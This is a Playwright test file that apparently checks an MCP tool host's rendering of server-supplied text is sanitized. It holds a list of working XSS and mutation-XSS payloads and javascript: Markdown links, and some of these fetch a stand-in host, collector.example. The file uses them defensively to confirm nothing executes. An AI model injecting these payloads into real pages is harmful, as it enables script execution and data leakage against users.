import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures/test.ts";

/**
 * Texts of a stranger, each of which runs code or asks `collector.example` for something where it becomes HTML
 * uncleaned. `%` stands for the name of the attack.
 */
const ATTACKS: Readonly<Record<string, string>> = {
  "img-onerror": `<img src="https://collector.example/%" onerror="fetch('https://collector.example/%')">`,
  "svg-onbegin": `<svg><animate attributeName="x" dur="1s" onbegin="fetch('https://collector.example/%')"/></svg>`,
  "svg-image": `<svg><image href="https://collector.example/%"/></svg>`,
  "svg-use-style": `<svg><style>@import 'https://collector.example/%';</style></svg>`,
  "math-mutation": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://collector.example/% &gt;"><img src="https://collector.example/%">`,
  "noscript-mutation": `<noscript><p title="</noscript><img src=https://collector.example/%>"></noscript><img src="https://collector.example/%">`,
  "css-url": `<div style="width:9px;height:9px;background:url(https://collector.example/%)">x</div>`,
  "css-import": `<style>@import "https://collector.example/%";</style>`,
  "link-stylesheet": `<link rel="stylesheet" href="https://collector.example/%">`,
  "iframe-src": `<iframe src="https://collector.example/%"></iframe>`,
  "iframe-srcdoc": `<iframe srcdoc="<img src='https://collector.example/%'>"></iframe>`,
  "object-data": `<object data="https://collector.example/%"></object>`,
  "video-poster": `<video poster="https://collector.example/%"></video>`,
  "picture-source": `<picture><source srcset="https://collector.example/%"><img></picture>`,
  "input-image": `<input type="image" src="https://collector.example/%">`,
  "body-background": `<table background="https://collector.example/%"><tr><td>x</td></tr></table>`,
  "details-ontoggle": `<details open ontoggle="fetch('https://collector.example/%')"><summary>x</summary></details>`,
  autofocus: `<a href="https://collector.example/%" autofocus tabindex="1" onfocus="fetch(this.href)">x</a>`,
};

const text = (name: string): string => ATTACKS[name]?.replaceAll("%", name) ?? "";
const ALL = Object.keys(ATTACKS).map(text).join("\n\n");

/** The same in Markdown: images and links that are markup of their own. */
const MARKDOWN = [
  "![pixel](https://collector.example/markdown-image)",
  "![data](data:image/svg+xml,<svg onload=alert(1)>)",
  "[run](javascript:alert(1))",
  "[run](&#106;avascript:alert(1))",
  '[x](https://example.com/ "onmouseover=alert(1)")',
  "<https://collector.example/autolink>",
  "[ref]: javascript:alert(1)",
  "[ref]",
].join("\n\n");

/** Every request that reached the collector, by the attack's name. */
async function collect(page: Page): Promise<ReadonlySet<string>> {
  const hits = new Set<string>();
  await page.context().route("https://collector.example/**", (route) => {
    hits.add(new URL(route.request().url()).pathname.slice(1));
    return route.fulfill({ body: "", headers: { "access-control-allow-origin": "*" } });
  });
  return hits;
}

test("Each attack works where its text becomes HTML uncleaned", async ({ page }) => {
  const hits = await collect(page);
  await page.setContent('<div id="page"></div>');
  for (const name of Object.keys(ATTACKS)) {
    await page.evaluate((html) => {
      document.querySelector("#page")!.innerHTML = html;
    }, text(name));
    await expect.poll(() => [...hits]).toContain(name);
  }
});

test("No text of a server becomes anything but words, lists, tables and links of the page", async ({
  workbench,
  startHost,
  startServer,
}) => {
  const { page } = workbench;
  const hits = await collect(page);
  const server = await startServer([
    {
      name: "plain",
      annotations: { title: `Plain ${text("img-onerror")}` },
      inputSchema: {
        type: "object",
        properties: { city: { type: "string", title: text("svg-onbegin"), description: ALL } },
      },
      run: () => ({
        content: [
          { type: "text", text: ALL },
          { type: "text", text: MARKDOWN },
          { type: "resource_link", uri: "javascript:alert(1)", name: ALL },
          { type: "resource", resource: { uri: "file:///x", text: ALL } },
        ],
        structuredContent: { [text("img-onerror")]: ALL },
      }),
    },
    {
      name: "failing",
      run: () => {
        throw new Error(ALL);
      },
    },
  ]);
  const host = await startHost({ mcpServers: { test: { url: server.url } } });
  await workbench.open(host.url);
  await workbench.run("test", "failing");
  await expect(page.getByText("The tool reports an error.")).toBeVisible();
  await workbench.run("test", "plain");
  const result = page.locator("[data-result]").first();
  await expect(result).toContainText("onbegin=");
  await expect(result.getByRole("link", { name: "https://collector.example/autolink" })).toBeVisible();

  const odd = await page.evaluate(() => {
    const strange =
      "script:not([src]), svg, math, style:not(head *), iframe, object, embed, form:not(main form), video, template, base, meta:not(head *)";
    const elements = [
      ...document.querySelectorAll(strange),
      ...document.querySelectorAll("[data-result] img, img"),
    ];
    const handlers = [...document.querySelectorAll("*")].filter((element) =>
      element
        .getAttributeNames()
        .some((name) => name.startsWith("on") || name === "background" || name === "srcset"),
    );
    const styled = document.querySelectorAll(".markdown [style], .markdown [id], .markdown [class]");
    const links = [...document.querySelectorAll<HTMLAnchorElement>(".markdown a")].filter(
      ({ protocol }) => !["https:", "http:", "mailto:"].includes(protocol),
    );
    return [...elements, ...handlers, ...styled, ...links].map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
  expect(odd).toEqual([]);
  expect([...hits]).toEqual([]);
});
